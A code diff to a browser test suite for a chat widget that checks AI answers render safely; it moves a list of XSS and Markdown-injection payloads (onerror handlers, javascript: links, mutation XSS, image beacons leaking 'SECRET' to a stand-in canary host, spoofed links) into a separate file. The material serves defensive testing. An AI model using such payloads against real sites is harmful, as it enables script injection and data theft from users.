@@ -2,6 +2,7 @@ import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type {} from '../../widget/src/footnote-chat.ts';
 import { browserIsThere, launchBrowser, openPage, strangers, type WatchedPage } from '../helpers/browser.ts';
+import { CANARY, PAYLOADS } from './hostile-payloads.ts';
 import {
   answerOf,
   CITATIONS,
@@ -15,47 +16,9 @@ import {
 } from './scripted-api.ts';
 import { STRESS } from './stress-answers.ts';
 
-const CANARY = 'http://canary.test';
-
 /** Of what is drawn of one answer: characters, and elements, of which a piece of Markdown may need several. */
 const LONGEST = 32_768;
 const MOST_ELEMENTS = 5000;
-
-/** Each would run a script or make a request where an answer became HTML, or an address became a link unchecked. */
-const PAYLOADS = [
-  '<img src=x onerror=window.__x=1>',
-  '<svg onload=window.__x=1></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__x=1&gt;">',
-  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
-  '<script>window.__x=1</script>',
-  '<a href="jav&#x09;ascript:window.__x=1">x</a>',
-  '[x](javascript:window.__x=1)',
-  '[x](jav\tascript:window.__x=1)',
-  '[x](JaVaScRiPt:window.__x=1)',
-  '[x](data:text/html,<script>window.__x=1</script>)',
-  '[x](vbscript:msgbox(1))',
-  '[x](//canary.test/y)',
-  '![a" onerror="window.__x=1](y)',
-  `![alt](${CANARY}/?q=SECRET)`,
-  `![][r]\n\n[r]: ${CANARY}/r`,
-  `![alt][r]\n\n[r]: ${CANARY}/r "t"`,
-  `<${CANARY}/auto>`,
-  `Look at ${CANARY}/bare.`,
-  `<style>@import url(${CANARY}/style)</style>`,
-  `<link rel=stylesheet href=${CANARY}/link>`,
-  `<form action=${CANARY}><input formaction="javascript:window.__x=1" autofocus onfocus=window.__x=1></form>`,
-  '<template shadowrootmode=open><script>window.__x=1</script></template>',
-  '<x-foo onclick=window.__x=1 onpointerenter=window.__x=1>x</x-foo>',
-  '<form id=fetch><input name=href id=location>',
-  'unclosed <a href="',
-  '```html\n<img src=x onerror=window.__x=1>',
-  `| a | b |\n|---|---|\n| <img src=${CANARY}/cell onerror=window.__x=1> | ![x](${CANARY}/cell) |`,
-  '```mermaid\ngraph TD; A[<img src=x onerror=window.__x=1>]\n```',
-  '$$\\href{javascript:window.__x=1}{x}$$',
-  `[gnp.\u202ekcilc](${CANARY}/rtl)`,
-  '[https://apple.com](https://аpple.com/login)',
-  `[1](${CANARY}/forged) [99](${CANARY}/forged) [99]`,
-];
 
 describe.skipIf(!browserIsThere)('answers that mean harm (needs chromium)', () => {
   let browser: Browser;
@@ -104,8 +67,9 @@ describe.skipIf(!browserIsThere)('answers that mean harm (needs chromium)', () =
           .filter((name) =>
             /^(script|iframe|style|link|img|object|embed|input|template|math|x-foo|meta|base)$/.test(name),
           ),
+        // The card is put in its place by the object model, which shows as an attribute.
         handlers: elements.flatMap((element) =>
-          element.getAttributeNames().filter((name) => /^on|^src|^style$/.test(name)),
+          element.getAttributeNames().filter((name) => /^on|^src|^style$/.test(name) && element.className !== 'card'),
         ),
         schemes: elements.flatMap((element) =>
           element instanceof HTMLAnchorElement && !/^(https?|mailto):$/.test(element.protocol) ? [element.href] : [],
@@ -177,9 +141,9 @@ describe.skipIf(!browserIsThere)('answers that mean harm (needs chromium)', () =
     ]) {
       await answerTo('See. [1]', hostile(url));
       await page.locator('.marker').click();
-      await page.locator('mark').waitFor();
-      expect(await page.locator('.passage a').count()).toBe(0);
-      expect(await page.locator('.name').textContent()).toBe('<img src=x onerror=window.__x=1>');
+      await page.locator('.card').waitFor();
+      expect(await page.locator('.card a').count()).toBe(0);
+      expect(await page.locator('.card .name').textContent()).toBe('<img src=x onerror=window.__x=1>');
     }
     expect(await traces()).toEqual(NONE);
   });
